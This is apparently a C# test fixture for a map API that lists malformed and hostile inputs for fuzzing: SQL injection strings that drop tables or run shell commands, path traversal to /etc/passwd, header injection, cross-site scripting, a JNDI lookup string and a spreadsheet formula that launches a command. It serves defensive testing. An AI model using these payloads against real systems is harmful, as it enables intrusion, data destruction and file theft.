using System.Text;

namespace Map.Api.Tests.Malformed;

/// <summary>Texts that mean harm to whoever pastes them into something else, by what they are after.</summary>
internal static class HostileText
{
    /// <summary>Some would sleep for longer than any answer may take.</summary>
    private static readonly string[] Sql =
    [
        "' or '1'='1", "'; drop table station; --", "1); delete from station; --", "\\'; select pg_sleep(60); --", "x' union select secret from api_key --",
        "'||pg_sleep(60)||'", "1;select pg_sleep(60)", "$$; copy station to program 'id'; $$", "%' escape '!", "a%' and (select count(*) from station)>0 --", "{1,2}'::bigint[]", "\\x00'",
    ];

    private static readonly string[] Paths =
    [
        "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "..\\..\\..\\etc\\passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "file:///etc/passwd", "/etc/passwd%00.json", "%00", "%2500", ".", "..", "/", "//", "~root", "CON",
    ];

    private static readonly string[] Lines =
    [
        "x\r\nSet-Cookie: injected=1", "%0d%0aSet-Cookie:%20injected=1", "%E5%98%8D%E5%98%8ASet-Cookie:%20injected=1", "x\nLocation: http://elsewhere.invalid/", "%0aSet-Cookie:injected=1", "\u2028x\u2029", "\u0085",
    ];

    private static readonly string[] Numbers =
    [
        "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "-1", "0", "-0", "99999999999999999999999999", "2147483648", "-2147483649", "9223372036854775808", "0x10", "1,5", "١٢", "1e-400", "0000000000000000001",
        "9007199254740993", "1.7976931348623157e308", "٣", "½", "1e9", "+1", " 1", "1 ",
    ];

    private static readonly string[] Boxes =
    [
        "NaN,NaN,NaN,NaN", "1e400,0,1,1", "-1e308,-1e308,1e308,1e308", "180,90,-180,-90", "0,0,0,0", "1,2,3", "1,2,3,4,5", "1,2,3,4,5,6", ",,,", "116,33,117", "-540,-100,540,100", "170,-10,-170,10",
    ];

    private static readonly string[] Moments =
    [
        "0000-00-00", "9999-12-31", "0001-01-01", "2026-02-30", "2026-01-01T25:61:61Z", "9999-12-31T23:59:59.9999999+14:00", "0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00-14:00", "../..", "2026-01-01/..", "../2026-01-01",
        "2026-01-01/2025-01-01", "9999-12-31/..", "-9999-01-01", "+275760-09-13", "99999-01-01", "2026-01-01T00:00:00", "2026-W01",
    ];

    private static readonly string[] Signs =
    [
        "", " ", "\u0000", "a\u0000b", "\uFFFD", "\uFEFF", "💥", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://elsewhere.invalid/x}", "%", "%%", "%zz", "%f", "_", "\\", "\"", "'", "`",
        "=cmd|' /C calc'!A0", "%ff%fe", "%ed%a0%80", "%c3%28", "&", "#", ";", "?", "[]", "[0]", "{}", "null", "undefined", "true", "\u202Eevil", "e\u0301", "*", "\"a, b\"", "a;q=", ",,,", ";;",
        new string('a', 3_000), new string('驿', 700), string.Concat(Enumerable.Repeat("%41", 1_000)), new string('(', 500), new string('.', 600), new string('/', 600),
    ];

    private static readonly (string Kind, string[] Texts)[] Kinds =
        [("SQL", Sql), ("path", Paths), ("line end", Lines), ("number", Numbers), ("box", Boxes), ("moment", Moments), ("sign", Signs)];

    /// <summary>A text and its kind.</summary>
    public static (string Kind, string Text) Any(Dice dice)
    {
        var (kind, texts) = dice.Pick(Kinds);
        return (kind, dice.Pick(texts));
    }

    /// <summary>As bytes of UTF-8 in the place of letters of Latin-1, as a careless client writes them; at times escaped, at times twice.</summary>
    public static string InAddress(string text, Dice dice) => dice.Below(4) switch
    {
        0 => Uri.EscapeDataString(text),
        1 => Uri.EscapeDataString(Uri.EscapeDataString(text)),
        // Neither a space nor the end of a line can stand in an address without ending it.
        2 => Raw(text).Replace(" ", "+", StringComparison.Ordinal).Replace("\r", "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal),
        _ => Raw(text).Replace(" ", "%20", StringComparison.Ordinal).Replace("\r", "%0d", StringComparison.Ordinal).Replace("\n", "%0a", StringComparison.Ordinal).Replace("\0", "%00", StringComparison.Ordinal),
    };

    /// <summary>The bytes of a text's UTF-8, a letter each.</summary>
    public static string Raw(string text) => Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(text));
}
